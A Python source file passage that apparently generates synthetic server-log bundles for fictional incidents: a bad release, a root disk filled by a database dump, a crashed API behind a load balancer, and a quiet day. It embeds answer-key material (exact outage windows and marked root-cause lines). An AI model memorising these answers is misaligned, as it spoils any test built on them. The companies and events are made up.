    for t in arrivals(rng, start, end, lambda t: 1 / 400):
        b.add(applog, t, f"{fmt_python(t)} WARNING [orders.payments] webhook for payment pi_{short_hex(rng, 24)} arrived twice, ignoring the duplicate")
    for t in (at("13:41:07"), at("15:12:44")):
        wpid, cid = conn.near(t)
        b.add(errlog, t, nginx_error(t, "error", wpid, cid, "client intended to send too large body: 10485761 bytes", client=pop.pick().ip,
                                     server=domain, request="POST /api/me/avatar HTTP/2.0", host=domain))  # fmt: skip

    return finish(
        b, (w0, w1), "root", "trigger", "resolution",
        "Release v5.2.0 made the order serializer read order.totals['currency'], which orders from "
        "before the multi-currency migration lack: GET /api/orders/<id> answered 500 (KeyError: "
        "'currency') for those orders until the rollback to v5.1.9 at 14:37 UTC.",
        bad_deploy_readme,
    )  # fmt: skip


def bad_deploy_readme(stats, b):
    ratio = window_ratio(b, at("14:05:00"), at("14:35:00"))
    return bundle_readme(
        stats, "a release breaks one endpoint: KeyError: 'currency'",
        "**Otterbay Books** (made up) sells books through a web shop and mobile apps at\n"
        "`otterbay.example`. `web-1` runs nginx; `app-1` runs the orders API (Flask on gunicorn,\n"
        "`10.0.2.31:8000`) and writes a plain-text Python log with tracebacks. Logs cover\n"
        "2024-03-14 13:30–15:30 UTC; all servers run in UTC.",
        "- **14:01:54** the deployer installs release **v5.2.0 (sha 3f9c2e1)** (`deployed release\n"
        "  v5.2.0 (sha 3f9c2e1)` in `app-1/syslog`); gunicorn reloads its workers (`Handling signal:\n"
        "  hup`) and each logs the new release.\n"
        "- **14:01:58** the first `GET /api/orders/<id>` for an order created before the\n"
        "  multi-currency migration (ids below 500000) fails: `Unhandled exception on GET\n"
        "  /api/orders/412907` with a traceback ending in `KeyError: 'currency'`; nginx logs a **500**.\n"
        "  Only that endpoint and only old orders fail (about 45% of its calls); the mobile apps retry\n"
        "  once, which adds a few more 500s. Everything else is healthy.\n"
        f"- The overall 5xx ratio stays small ({ratio:.1%} of requests between 14:05 and 14:35): this\n"
        "  incident shows as a new error signature, not as a wall of errors.\n"
        "- **14:06:15** the `OrdersErrorRate` alert fires; the on-call logs in at 14:19.\n"
        "- **14:37:40** he rolls back: `deployed release v5.1.9 (sha 9b1d0a4)`; the old workers are\n"
        "  back at 14:37:44 and the 500s stop.",
        "**Outage window: 14:01:58 → 14:37:44 UTC** (`[start, end)`), partial: one endpoint, old orders.",
        "Background: the load balancer's health check every 30 s, scanners, duplicate-webhook\n"
        "warnings, a stock sync every 5 minutes, `client intended to send too large body` twice.",
        "- `orders.log` is Python `logging` text (`2024-03-14 14:01:58,183 ERROR [orders.api] ...`)\n"
        "  with **multi-line tracebacks**: the lines after the ERROR line (indented `File ...` lines\n"
        "  and the final `KeyError: 'currency'`) belong to it. Times there have no zone (UTC).\n"
        "- No nginx `error.log` line marks this outage: nginx got a valid 500 from the app.",
    )


# ============================================================================================
# 5. disk-full
# ============================================================================================


def disk_full() -> dict:
    name = "disk-full"
    rng = random.Random(2024_0314_05)
    noise = MinuteNoise(f"{name}-noise")
    b = Bundle(name)
    start, end = at("21:00:00"), at("23:00:00")
    backup, full, freed = at("21:30:01"), at("21:41:07.503"), at("22:03:10.660")
    w0, w1 = at("21:41:12"), at("22:03:11")
    host, domain = "web-1", "pebblecrest.example"
    access, errlog, sysl, applog = "web-1/nginx/access.log", "web-1/nginx/error.log", "web-1/syslog", "web-1/pebble/app.jsonl"
    pop = Population(rng, 560, ipv6_share=0.04)
    conn = Conn(rng, [1320, 1321, 1322, 1323], 5_502_117)
    kern = Kernel(start - 612_044_880)

    def rate(t):
        h = (t - start) / 3.6e6
        return (1.6 - 0.3 * h) * noise(t)

    def is_full(t):
        return w0 <= t < freed

    def pick(client):
        d = f"https://{domain}"
        album, photo = rng.randrange(10_000, 99_999), rng.randrange(1_000_000, 9_999_999)
        method, path, kind = weighted(rng, [
            (10, ("GET", "/", "page")), (14, ("GET", f"/albums/{album}", "page")), (10, ("GET", f"/p/{photo}", "page")),
            (36, ("GET", f"/thumbs/{photo}_320.webp", "thumb")), (8, ("GET", rng.choice(["/static/site.9e1f.js", "/static/site.41ab.css", "/favicon.ico"]), "static")),
            (10, ("GET", f"/api/albums/{album}/photos?cursor={short_hex(rng, 8)}", "api")),
            (4, ("POST", "/api/upload", "upload")), (2, ("POST", "/api/login", "login")),
            (3, ("POST", f"/api/photos/{photo}/like", "api")),
        ])  # fmt: skip
        return method, path, rng.choice([f"{d}/", f"{d}/albums/{album}", "-"]), kind

    items = [(a, ("user", pop.pick())) for a in arrivals(rng, start, end, rate)]
    items += [(at("21:41:12.080"), ("forced", pop.pick()))]
    items += scanner_items(rng, pop, start, end, 1000)
    sessions_fail = {"page": 0.45, "api": 0.45}

    def app_enospc(t, rid, what, path, mark=False):
        b.add(applog, t, jline(t, "error", "pebble.web", f"{what}: [Errno 28] No space left on device", request_id=rid, path=path,
                               exc_info=f"OSError: [Errno 28] No space left on device: '{'/var/lib/pebble/sessions/sess_' + short_hex(rng, 24) if 'session' in what else '/var/lib/pebble/thumbs/' + path.split('/')[-1]}'"))  # fmt: skip

    def handle(arr, payload, push):
        src, who = payload[0], payload[1]
        wpid, cid = conn.next(arr)
        if src == "scan":
            r = Req(arr, who, payload[2], payload[3], kind="scan")
            handle_scan(b, access, errlog, r, who, wpid, cid, rng, domain, "192.0.2.20")
            return
        method, path, ref, kind = ("POST", "/api/upload", f"https://{domain}/upload", "upload") if src == "forced" else pick(who)
        r = Req(arr, who, method, path, ref=ref, kind=kind)
        rid = short_hex(rng, 16)
        lat = int(rng.lognormvariate(math.log(50), 0.5))
        r.t = arr + lat
        full_now = is_full(arr)
        if kind == "static":
            r.t = arr + rng.randrange(0, 3)
            r.status, r.bytes = (304, 0) if rng.random() < 0.3 else (200, rng.randrange(800, 90_000))
        elif kind == "upload":
            r.t = arr + rng.randrange(400, 3_000)
            if full_now:
                r.status, r.bytes = 500, 177
                tmp = f"/var/cache/nginx/client_temp/{cid % 10**10:010d}"
                b.add(errlog, r.t, nginx_error(r.t, "crit", wpid, cid, f"open() \"{tmp}\" failed (28: No space left on device)",
                                               client=who.ip, server=domain, request=f"{method} {path} {who.proto}", host=domain))  # fmt: skip
            else:
                r.status, r.bytes = 201, rng.randrange(300, 600)
                b.add(applog, r.t - 2, jline(r.t - 2, "info", "pebble.web", f"photo {rng.randrange(1_000_000, 9_999_999)} uploaded ({rng.randrange(900, 9000)} KiB)", request_id=rid, path=path, duration_ms=r.t - arr))
        elif kind == "thumb":
            if rng.random() < 0.82:  # nginx proxy_cache hit
                r.t = arr + rng.randrange(0, 3)
                r.bytes = rng.randrange(9_000, 30_000)
            elif full_now:
                r.status, r.bytes = 507, 64
                app_enospc(r.t - 1, rid, "thumbnail render failed", path)
            else:
                r.t = arr + rng.randrange(60, 400)
                r.bytes = rng.randrange(9_000, 30_000)
        elif kind == "login":
            if full_now:
                r.status, r.bytes = 500, 71
                app_enospc(r.t - 1, rid, "could not save session", path)
            else:
                r.status, r.bytes = weighted(rng, [(88, (200, 318)), (12, (401, 52))])
        else:
            if full_now and who.logged_in and rng.random() < sessions_fail[kind]:
                r.status, r.bytes = 500, 71 if kind == "api" else 2_611
                app_enospc(r.t - 1, rid, "could not save session", path)
            else:
                r.bytes = rng.randrange(4_000, 48_000) if kind == "page" else rng.randrange(600, 12_000)
                if path.startswith("/p/") and rng.random() < 0.02:
                    r.status, r.bytes = 404, 3_120
        b.request(access, r)

    simulate(items, handle)

    # ---- the disk ------------------------------------------------------------------------
    b.add(sysl, backup, syslog(backup, host, "CRON[48812]", "(postgres) CMD (/usr/local/bin/pg-backup.sh --dest /var/backups/pg >/dev/null 2>&1)"),
          mark="trigger", mark_text="(postgres) CMD (/usr/local/bin/pg-backup.sh --dest /var/backups/pg")  # fmt: skip
    b.add(sysl, backup + 140, syslog(backup + 140, host, "pg-backup[48815]", "starting dump of database pebble to /var/backups/pg/pebble-20240314-2130.dump"))
    for t, pct in ((at("21:34:12"), 88.1), (at("21:36:12"), 91.7), (at("21:38:12"), 95.2), (at("21:40:12"), 98.9)):
        b.add(sysl, t, syslog(t, host, "monit[804]", f"'rootfs' space usage {pct}% matches resource limit [space usage > 85.0%]"))
    b.add(sysl, full, syslog(full, host, "pg-backup[48815]", "pg_dump: error: could not write to output file: No space left on device"),
          mark="root", mark_text="pg_dump: error: could not write to output file: No space left on device")  # fmt: skip
    b.add(sysl, full + 12, syslog(full + 12, host, "pg-backup[48815]", "backup FAILED after 666 s (exit 1); leaving /var/backups/pg/pebble-20240314-2130.dump for inspection"))
    b.add(sysl, full + 300, kern(full + 300, host, "EXT4-fs (nvme0n1p1): Delayed block allocation failed for inode 1311032 at logical offset 0 with max blocks 2 with error 28"))
    b.add(sysl, full + 301, kern(full + 301, host, "EXT4-fs (nvme0n1p1): This should not happen!! Data will be lost", extra_us=40))
    for t in range(at("21:42:12"), at("22:04:00"), 120_000):
        b.add(sysl, t, syslog(t, host, "monit[804]", "'rootfs' space usage 100.0% matches resource limit [space usage > 85.0%]"))
    t = at("22:00:01")
    b.add(sysl, t, syslog(t, host, "systemd[1]", "Starting logrotate.service - Rotate log files..."))
    b.add(sysl, t + 90, syslog(t + 90, host, "logrotate[51201]", "error: error creating output file /var/lib/logrotate/status.tmp: No space left on device"))
    b.add(sysl, t + 95, syslog(t + 95, host, "systemd[1]", "logrotate.service: Main process exited, code=exited, status=1/FAILURE"))
    b.add(sysl, t + 96, syslog(t + 96, host, "systemd[1]", "logrotate.service: Failed with result 'exit-code'."))
    b.add(sysl, t + 97, syslog(t + 97, host, "systemd[1]", "Failed to start logrotate.service - Rotate log files."))
    t = at("21:42:40")
    b.add(sysl, t, syslog(t, host, "alertmanager-notify[1990]", "sent page 'DiskFull' (rootfs 100% on web-1) to oncall-pebble"))
    ssh_login(b, sysl, at("21:52:31"), host, "alice", 58221, 4411, 1002)
    sudo(b, sysl, at("21:53:02"), host, "alice", "/home/alice", "/usr/bin/df -h")
    sudo(b, sysl, at("21:54:40"), host, "alice", "/home/alice", "/usr/bin/du -xh --max-depth=2 /var")
    sudo(b, sysl, freed, host, "alice", "/home/alice", "/usr/bin/rm /var/backups/pg/pebble-20240314-2130.dump",
         mark="resolution", mark_text="COMMAND=/usr/bin/rm /var/backups/pg/pebble-20240314-2130.dump")  # fmt: skip
    t = at("22:04:12")
    b.add(sysl, t, syslog(t, host, "monit[804]", "'rootfs' space usage check succeeded [current space usage = 61.4%]"))
    sudo(b, sysl, at("22:06:15"), host, "alice", "/home/alice", "/usr/bin/systemctl start logrotate.service")
    t = at("22:06:15.400")
    b.add(sysl, t, syslog(t, host, "systemd[1]", "Starting logrotate.service - Rotate log files..."))
    b.add(sysl, t + 600, syslog(t + 600, host, "systemd[1]", "logrotate.service: Deactivated successfully."))
    b.add(sysl, t + 610, syslog(t + 610, host, "systemd[1]", "Finished logrotate.service - Rotate log files."))
    routine_syslog(b, sysl, rng, host, start, end, kern=kern, cron_pid=44000, ufw_ip="192.0.2.20", scanners=pop.scanners)
    for t in range(start + 2_000, end, 120_000):
        if not (at("21:34:00") <= t < at("22:04:00")):
            b.add(sysl, t, syslog(t, host, "monit[804]", "'pebble-web' process is running with pid 1544"))
    for t in range(start + 31_000, end, 300_000):
        b.add(applog, t, jline(t, "info", "pebble.worker", f"thumbnail cache gc: removed {rng.randrange(0, 60)} stale files"))

    return finish(
        b, (w0, w1), "root", "trigger", "resolution",
        "The nightly database dump was written to the root filesystem and filled it at 21:41 UTC; "
        "uploads, logins, session writes and thumbnail renders failed with 500/507 until the on-call "
        "deleted the partial dump at 22:03 UTC.",
        disk_full_readme,
    )  # fmt: skip


def disk_full_readme(stats, b):
    return bundle_readme(
        stats, "a database dump fills the root disk",
        "**Pebblecrest** (made up) is a photo-sharing site at `pebblecrest.example`. One host, `web-1`,\n"
        "runs nginx (with a thumbnail cache and `client_body_temp` under `/var/cache/nginx`) and the\n"
        "app (`127.0.0.1:8000`, file-backed sessions and thumbnails under `/var/lib/pebble`). `/var/log`\n"
        "is its own filesystem, so logging continues while `/` is full. Logs cover 2024-03-14\n"
        "21:00–23:00 UTC; the host runs in UTC.",
        "- **21:30:01** cron starts the nightly `pg-backup.sh`, which (after a config change weeks ago)\n"
        "  writes the dump to `/var/backups/pg` on the root filesystem. `monit` warns as usage climbs\n"
        "  (88% → 99%).\n"
        "- **21:41:07** the disk is full: `pg_dump: error: could not write to output file: No space\n"
        "  left on device`. The script fails but leaves the partial dump, so the disk stays full.\n"
        "- **21:41:12** the first failed request. From then on: uploads fail in nginx itself (**500**,\n"
        "  `[crit] ... open() \"/var/cache/nginx/client_temp/...\" failed (28: No space left on\n"
        "  device)`), logins and many page views of logged-in users fail when the app cannot save the\n"
        "  session (**500**), thumbnails that are not cached fail to render (**507**); the app logs\n"
        "  `[Errno 28] No space left on device`. Cached thumbnails and static files still work.\n"
        "- **22:00:01** the hourly logrotate fails too (`error creating output file\n"
        "  /var/lib/logrotate/status.tmp: No space left on device`).\n"
        "- **22:03:10** the on-call deletes the partial dump; space is back (61%), errors stop.",
        "**Outage window: 21:41:12 → 22:03:11 UTC** (`[start, end)`), partial: about a quarter of requests fail.",
        "Background: scanners, monit's process checks every 2 minutes, UFW blocks, hourly cron.",
        "- Three different failure statuses (500 from nginx, 500 and **507** from the app).\n"
        "- nginx logs the disk errors at `[crit]`, not `[error]`.\n"
        "- The first line naming the cause is in syslog (`pg-backup`), five seconds before the first\n"
        "  failed request.",
    )


# ============================================================================================
# 6. upstream-dead (traffic collapses: the load balancer stops sending)
# ============================================================================================


def upstream_dead() -> dict:
    name = "upstream-dead"
    rng = random.Random(2024_0314_06)
    noise = MinuteNoise(f"{name}-noise")
    b = Bundle(name)
    start, end = at("10:30:00"), at("12:30:00")
    puppet, stop = at("11:13:33.120"), at("11:13:36.210")
    lb_down, fixed, lb_up = at("11:14:06.000"), at("11:29:52.380"), at("11:30:23.000")
    w0, w1 = at("11:13:36"), lb_up
    host, domain, upstream = "web-3", "api.quillmark.example", "http://127.0.0.1:8000"
    access, errlog, sysl, applog = "web-3/nginx/access.log", "web-3/nginx/error.log", "web-3/syslog", "web-3/api/api.jsonl"
    pop = Population(rng, 480, uas=DASH_UAS + [(8, "Quillmark-CLI/2.4.0 (linux; amd64)"), (6, "quillmark-python/1.9.3 python-requests/2.31.0")])
    conn = Conn(rng, [780, 781], 77_210)
    kern = Kernel(start - 1_401_227_009)
    lb = Client("10.0.0.5", "-", 1, "HTTP/1.0")

    def rate(t):
        return 1.8 * noise(t) * (1 + 0.08 * math.sin((t - start) / 1.7e6))

    app_down = (stop, fixed + 3_800)  # the app is gone; nginx cannot connect
    state = {"down_until": 0}

    def pick():
        doc = rng.randrange(10_000, 99_999)
        return weighted(rng, [
            (30, ("GET", f"/api/v1/documents/{doc}", "api")), (12, ("GET", f"/api/v1/documents/{doc}/comments", "api")),
            (8, ("POST", f"/api/v1/documents/{doc}/comments", "api")), (10, ("PATCH", f"/api/v1/documents/{doc}", "api")),
            (9, ("GET", f"/api/v1/search?q={rng.choice(['roadmap', 'q1+okrs', 'onboarding', 'invoice', 'meeting+notes'])}", "api")),
            (8, ("GET", "/api/v1/users/me", "api")), (6, ("GET", "/app/", "api")),
            (12, ("GET", rng.choice(["/static/editor.8c1d.js", "/static/app.6b2e.css", "/favicon.ico"]), "static")),
        ])  # fmt: skip

    items = [(a, ("user", pop.pick())) for a in arrivals(rng, start, end, rate) if not (lb_down <= a < lb_up)]
    # a few stragglers reach web-3 directly while the balancer has it out of rotation
    items += [(a, ("user", pop.pick())) for a in sorted(rng.randrange(lb_down, lb_up) for _ in range(6))]
    items += [(a, ("health", lb)) for a in range(start + 9_000, end, 15_000)]
    items += [(at("11:13:36.300"), ("forced", pop.pick()))]
    items += scanner_items(rng, pop, start, end, 800)

    def handle(arr, payload, push):
        src, who = payload[0], payload[1]
        wpid, cid = conn.next(arr)
        if src == "scan":
            r = Req(arr, who, payload[2], payload[3], kind="scan")
            handle_scan(b, access, errlog, r, who, wpid, cid, rng, domain, "192.0.2.30",
                        down=app_down[0] <= arr < app_down[1],
                        down_msg=("no live upstreams while connecting to upstream", "http://api_backend"))  # fmt: skip
            return
        if src == "health":
            method, path, kind = "GET", "/healthz", "health"
        elif src == "forced":
            method, path, kind = "GET", "/api/v1/users/me", "api"
        else:
            method, path, kind = pick()
        r = Req(arr, who, method, path, ref="-" if who.ua.startswith(("Quill", "quill", "-")) else f"https://{domain}/app/", kind=kind)
        if kind == "static":
            r.t = arr + rng.randrange(0, 3)
            r.status, r.bytes = (304, 0) if rng.random() < 0.4 else (200, rng.randrange(900, 210_000))
            b.request(access, r)
            return
        if app_down[0] <= arr < app_down[1]:
            r.t, r.status, r.bytes = arr + rng.randrange(0, 2), 502, 157
            if arr < state["down_until"]:
                msg = "no live upstreams while connecting to upstream"
                up = "http://api_backend" + path
            else:
                msg = "connect() failed (111: Connection refused) while connecting to upstream"
                up = upstream + path
                state["down_until"] = arr + 10_000  # max_fails=1 fail_timeout=10s
            b.add(errlog, r.t, nginx_error(r.t, "error", wpid, cid, msg, client=who.ip, server=domain,
                                           request=f"{method} {path} {who.proto}", upstream=up,
                                           host=domain if src != "health" else "10.0.3.13"))  # fmt: skip
            b.request(access, r)
            return
        r.t = arr + int(rng.lognormvariate(math.log(40), 0.5))
        if kind == "health":
            r.bytes = 15
        elif method == "POST":
            r.status, r.bytes = 201, rng.randrange(300, 900)
        elif method == "PATCH":
            r.status, r.bytes = (200, rng.randrange(400, 3000)) if rng.random() < 0.97 else (409, 88)
        else:
            r.status = 404 if rng.random() < 0.01 else 200
            r.bytes = rng.randrange(300, 24_000) if r.status == 200 else 44
        b.request(access, r)

    simulate(items, handle)

    # ---- what killed the app -------------------------------------------------------------
    b.add(sysl, puppet - 2_900, syslog(puppet - 2_900, host, "puppet-agent[2121]", "Applying configuration version '1710414810'"))
    b.add(sysl, puppet, syslog(puppet, host, "puppet-agent[2121]", "(/Stage[main]/Quill::Api::Config/File[/etc/quill/api.env]/content) content changed '{sha256}1c5e0f4a9b7d22e83f61c5b0a4d7e9f2c3b1a0d9e8f7c6b5a4d3e2f1a0b9c8d7' to '{sha256}9a0f3b2c1d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6071829304a5b6c7d8'"),
          mark="trigger", mark_text="(/Stage[main]/Quill::Api::Config/File[/etc/quill/api.env]/content) content changed")  # fmt: skip
    b.add(sysl, puppet + 8, syslog(puppet + 8, host, "puppet-agent[2121]", "(/Stage[main]/Quill::Api::Service/Service[api]) Triggered 'refresh' from 1 event"))
    b.add(sysl, stop - 900, syslog(stop - 900, host, "systemd[1]", "Stopping api.service - Quillmark API..."))
    b.add(applog, stop - 880, jline(stop - 880, "info", "quill.api", "received SIGTERM, shutting down gracefully"))
    b.add(applog, stop - 120, jline(stop - 120, "info", "quill.api", "shutdown complete"))
    b.add(sysl, stop, syslog(stop, host, "systemd[1]", "api.service: Deactivated successfully."))
    b.add(sysl, stop + 1, syslog(stop + 1, host, "systemd[1]", "Stopped api.service - Quillmark API."))
    t = stop + 20
    first = True
    for attempt in range(6):
        pid = 6120 + attempt * 17
        b.add(sysl, t, syslog(t, host, "systemd[1]", "Started api.service - Quillmark API."))
        tb = [
            f"[{pid}] [INFO] Starting gunicorn 21.2.0",
            f"[{pid}] [INFO] Listening at: http://127.0.0.1:8000 ({pid})",
            f"[{pid + 3}] [INFO] Booting worker with pid: {pid + 3}",
            f"[{pid + 3}] [ERROR] Exception in worker process",
            "Traceback (most recent call last):",
            '  File "/srv/quill/venv/lib/python3.11/site-packages/gunicorn/arbiter.py", line 609, in spawn_worker',
            "    worker.init_process()",
            '  File "/srv/quill/api/settings.py", line 14, in <module>',
            '    DATABASE_URL = os.environ["DATABASE_URL"]',
            '  File "<frozen os>", line 679, in __getitem__',
            "KeyError: 'DATABASE_URL'",
            f"[{pid + 3}] [INFO] Worker exiting (pid: {pid + 3})",
            f"[{pid}] [ERROR] Worker (pid:{pid + 3}) exited with code 3",
            f"[{pid}] [ERROR] Shutting down: Master",
            f"[{pid}] [ERROR] Reason: Worker failed to boot.",
        ]  # fmt: skip
        for j, text in enumerate(tb):
            tt = t + 700 + j * 60
            if text.startswith("["):
                text = f"[2024-03-14 {fmt_hm(tt)} +0000] {text}"
            mark = "root" if text.startswith("KeyError") and first else None
            b.add(sysl, tt, syslog(tt, host, f"gunicorn[{pid}]", text), mark=mark, mark_text="KeyError: 'DATABASE_URL'")
        first = False
        tt = t + 1_700
        b.add(sysl, tt, syslog(tt, host, "systemd[1]", "api.service: Main process exited, code=exited, status=3/NOTIMPLEMENTED"))
        b.add(sysl, tt + 1, syslog(tt + 1, host, "systemd[1]", "api.service: Failed with result 'exit-code'."))
        t = tt + 2_000
        if attempt < 5:
            b.add(sysl, t, syslog(t, host, "systemd[1]", f"api.service: Scheduled restart job, restart counter is at {attempt + 1}."))
            b.add(sysl, t + 2, syslog(t + 2, host, "systemd[1]", "Stopped api.service - Quillmark API."))
            t += 40
        else:
            b.add(sysl, t, syslog(t, host, "systemd[1]", "api.service: Start request repeated too quickly."))
            b.add(sysl, t + 1, syslog(t + 1, host, "systemd[1]", "api.service: Failed with result 'exit-code'."))
            b.add(sysl, t + 2, syslog(t + 2, host, "systemd[1]", "Failed to start api.service - Quillmark API."))
    b.add(sysl, puppet + 9_800, syslog(puppet + 9_800, host, "puppet-agent[2121]", "Applied catalog in 12.47 seconds"))
    t = at("11:15:10")
    b.add(sysl, t, syslog(t, host, "alertmanager-notify[1500]", "sent page 'QuillmarkNoTraffic' (requests on api.quillmark.example dropped to 0.1/s) to oncall-platform"))
    ssh_login(b, sysl, at("11:21:37"), host, "dana", 31877, 602, 1005)
    sudo(b, sysl, at("11:22:05"), host, "dana", "/home/dana", "/usr/bin/systemctl status api.service")
    sudo(b, sysl, at("11:23:18"), host, "dana", "/home/dana", "/usr/bin/journalctl -u api.service -n 80")
    sudo(b, sysl, at("11:27:40"), host, "dana", "/home/dana", "/usr/bin/puppet agent --disable 'api.env lost DATABASE_URL, see INC-2231'")
    sudo(b, sysl, at("11:29:14"), host, "dana", "/home/dana", "sudoedit /etc/quill/api.env")
    sudo(b, sysl, fixed - 400, host, "dana", "/home/dana", "/usr/bin/systemctl restart api.service",
         mark="resolution", mark_text="COMMAND=/usr/bin/systemctl restart api.service")  # fmt: skip
    b.add(sysl, fixed, syslog(fixed, host, "systemd[1]", "Started api.service - Quillmark API."))
    tt = fixed + 700
    for j, text in enumerate([
        "[7301] [INFO] Starting gunicorn 21.2.0",
        "[7301] [INFO] Listening at: http://127.0.0.1:8000 (7301)",
        "[7301] [INFO] Using worker: gthread",
    ] + [f"[{7304 + i}] [INFO] Booting worker with pid: {7304 + i}" for i in range(4)]):  # fmt: skip
        tj = tt + j * 5
        b.add(sysl, tj, syslog(tj, host, "gunicorn[7301]", f"[2024-03-14 {fmt_hm(tj)} +0000] {text}"))
    t = fixed + 3_790
    b.add(applog, t, jline(t, "info", "quill.api", "api 8.3.0 ready (4 workers, db=postgresql://quill@10.0.3.40:5432/quill)"))
    t = at("11:34:20")
    b.add(sysl, t, syslog(t, host, "alertmanager-notify[1500]", "sent resolved 'QuillmarkNoTraffic' to oncall-platform"))
    routine_syslog(b, sysl, rng, host, start, end, kern=kern, cron_pid=39000, ufw_ip="192.0.2.30", scanners=pop.scanners)
    for t in range(start + 41_000, end, 60_000):
        if not (stop - 1_000 <= t < fixed + 4_000):
            b.add(applog, t, jline(t, "info", "quill.api", f"autosave flush: {rng.randrange(5, 80)} documents, {rng.randrange(20, 400)} ops"))
    for t in arrivals(rng, start, end, lambda t: 1 / 240):
        if not (stop - 1_000 <= t < fixed + 4_000):
            b.add(applog, t, jline(t, "warning", "quill.collab", f"websocket client {short_hex(rng, 8)} dropped: ping timeout after 30s"))

    return finish(
        b, (w0, w1), "root", "trigger", "resolution",
        "A Puppet run rewrote /etc/quill/api.env without DATABASE_URL and restarted the API, which "
        "then failed to boot (KeyError: 'DATABASE_URL') until systemd gave up; the load balancer took "
        "web-3 out of rotation, so traffic vanished from 11:14 until the env file was fixed and the "
        "balancer sent traffic again at 11:30:23 UTC.",
        upstream_dead_readme,
    )  # fmt: skip


def upstream_dead_readme(stats, b):
    before = sum(1 for r in b.requests if at("10:55:00") <= second(r.t) < at("11:10:00"))
    during = sum(1 for r in b.requests if at("11:14:30") <= second(r.t) < at("11:29:30"))
    return bundle_readme(
        stats, "the app dies, the balancer walks away, the access log goes quiet",
        "**Quillmark** (made up) is a collaborative editor with an API at `api.quillmark.example`.\n"
        "A load balancer (haproxy on `lb-1`, 10.0.0.5; its logs are not in the bundle) sends all\n"
        "traffic to one backend, `web-3`, which runs nginx and the API (gunicorn, `127.0.0.1:8000`,\n"
        "upstream `api_backend` with `max_fails=1 fail_timeout=10s`). haproxy checks\n"
        "`GET /healthz` every 15 s (no user agent: `\"-\"`) and takes the server out after 2\n"
        "failures. Logs cover 2024-03-14 10:30–12:30 UTC; the host runs in UTC.",
        "- **11:13:33** a Puppet run rewrites `/etc/quill/api.env` (a template bug drops\n"
        "  `DATABASE_URL`) and restarts `api.service`.\n"
        "- **11:13:36** the old API has stopped; the new one dies at boot: `KeyError: 'DATABASE_URL'`\n"
        "  (the gunicorn traceback is in `syslog`, one line per syslog line). systemd restarts it\n"
        "  five times and gives up (`Start request repeated too quickly`). nginx answers **502**:\n"
        "  `connect() failed (111: Connection refused)`, then `no live upstreams while connecting to\n"
        "  upstream` while the server is marked failed.\n"
        "- **11:14:06** after two failed health checks haproxy takes web-3 out of rotation and serves\n"
        "  its own 503 page to users. web-3's access log goes almost silent:\n"
        f"  {during} lines between 11:14:30 and 11:29:30 against {before} in the 15 minutes from\n"
        "  10:55:00; what remains is the failing health checks (502), a few clients that talk to\n"
        "  web-3 directly, and scanners.\n"
        "- **11:15:10** the `QuillmarkNoTraffic` alert pages; the on-call logs in at 11:21, disables\n"
        "  Puppet, restores the env file and at **11:29:52** restarts the API, which boots.\n"
        "- **11:30:23** the second passing health check: haproxy sends traffic again.",
        "**Outage window: 11:13:36 → 11:30:23 UTC** (`[start, end)`). Users saw haproxy's 503 page,\n"
        "which is not in these logs: the few 5xx here understate the impact; the **gap** is the signal.",
        "Background: scanners, websocket ping timeouts, autosave flushes, UFW blocks, hourly cron.",
        "- The outage is mostly *missing* lines: a parser or detector that only counts errors sees\n"
        "  a handful of 502s (mostly health checks).\n"
        "- The app's own JSON log simply stops at 11:13:36 and resumes at 11:29:56.\n"
        "- The gunicorn boot failure reaches syslog through journald: its traceback lines each carry\n"
        "  a full syslog header (`web-3 gunicorn[6120]: Traceback (most recent call last):`), and the\n"
        "  inner text has gunicorn's own `[2024-03-14 11:13:37 +0000] [6120] [INFO]` prefix.\n"
        "- Health checks are `HTTP/1.0` with no user agent.",
    )


# ============================================================================================
# 7. quiet-day (no incident)
# ============================================================================================


def quiet_day() -> dict:
    name = "quiet-day"
    rng = random.Random(2024_0314_07)
    noise = MinuteNoise(f"{name}-noise")
    b = Bundle(name)
    start, end = at("06:00:00"), at("08:00:00")
    lone = at("06:41:09.250")
    blip = [at("07:22:41.120"), at("07:22:47.900"), at("07:22:52.310"), at("07:22:58.040")]
    web, app, domain = "web-1", "app-1", "harborpine.example"
    upstream_app, upstream_store = "http://10.0.2.15:8080", "http://10.0.2.10:3000"
    access, errlog, sysl, applog = "web-1/nginx/access.log", "web-1/nginx/error.log", "web-1/syslog", "app-1/app.jsonl"
    pop = Population(rng, 600, ipv6_share=0.05)
    shop = Shop(rng, domain, shop_products(rng))
    conn = Conn(rng, [977, 978, 979, 980], 2_204_004)
    kern = Kernel(start - 5_102_334_812)

    def rate(t):
        h = (t - start) / 3.6e6
        return (1.3 + 0.55 * h) * noise(t) * (1 + 0.05 * math.sin(h * 5))

    items = [(a, ("shop", pop.pick())) for a in arrivals(rng, start, end, rate)]
    items += [(lone, ("lone", pop.pick()))] + [(t - 30_000 - 200, ("blip", pop.pick())) for t in blip]
    items += scanner_items(rng, pop, start, end, 600)
    items += [(a, ("bot", who)) for a, who, _, _ in bots_and_monitors(rng, pop, start, end, domain)]
    api_kinds = {"api_cart", "api_cart_add", "api_cart_del", "api_checkout", "api_shipping"}

    def handle(arr, payload, push):
        src, who = payload[0], payload[1]
        wpid, cid = conn.next(arr)
        if src == "scan":
            r = Req(arr, who, payload[2], payload[3], kind="scan")
            handle_scan(b, access, errlog, r, who, wpid, cid, rng, domain, "192.0.2.10")
            return
        if src == "bot":
            r = Req(arr, who, "GET", rng.choice(["/robots.txt", "/sitemap.xml", f"/products/{shop.product()}", f"/category/{rng.choice(CATEGORIES)}"]), kind="bot")
            r.t, r.bytes = arr + rng.randrange(20, 90), rng.randrange(2_000, 50_000)
            b.request(access, r)
            return
        rid = request_id(rng)
        if src == "lone":
            r = Req(arr, who, "POST", "/api/checkout", ref=f"https://{domain}/checkout", kind="api_checkout")
            r.t, r.status, r.bytes = arr + 612, 500, 52
            b.add(applog, r.t - 2, jline(r.t - 2, "error", "shop-api", "unhandled error in checkout: ValueError: invalid literal for int() with base 10: 'SPRING-24'",
                                         request_id=rid, path=r.path, duration_ms=608,
                                         exc_info="Traceback (most recent call last):\n"
                                                  '  File "/srv/shop/shop/api/checkout.py", line 96, in apply_coupon\n'
                                                  "    percent = int(body.coupon)\n"
                                                  "ValueError: invalid literal for int() with base 10: 'SPRING-24'"))  # fmt: skip
            b.request(access, r)
            return
        if src == "blip":
            r = Req(arr, who, "GET", "/api/cart", ref=f"https://{domain}/", kind="api_cart")
            done = blip[[t - 30_000 - 200 for t in blip].index(arr)]
            r.t, r.status, r.bytes = done, 502, 157
